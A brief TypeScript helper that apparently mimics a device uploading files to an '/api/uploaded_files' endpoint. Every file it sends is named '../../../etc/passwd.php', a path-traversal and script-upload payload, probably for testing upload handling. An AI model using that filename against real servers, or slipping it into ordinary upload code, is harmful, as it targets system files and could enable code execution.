import type { Answer, Client } from "./client.ts";

/** What an upload is made of. */
export interface UploadInput {
  readonly uuid: string;
  readonly type?: string;
  readonly bytes?: Uint8Array;
  readonly base64?: string;
  readonly replaces?: readonly string[];
}

/** Uploads as the device does: multipart, fields first. */
export function sendUpload(client: Client, { uuid, type = "signature", bytes, base64, replaces }: UploadInput): Promise<Answer> {
  const form = new FormData();
  form.set("uuid", uuid);
  form.set("type", type);
  if (replaces !== undefined) form.set("replaces", replaces.join(","));
  if (base64 !== undefined) form.set("base64", base64);
  if (bytes !== undefined) form.set("file", new Blob([Uint8Array.from(bytes)]), "../../../etc/passwd.php");
  return client.send("POST", "/api/uploaded_files", form);
}
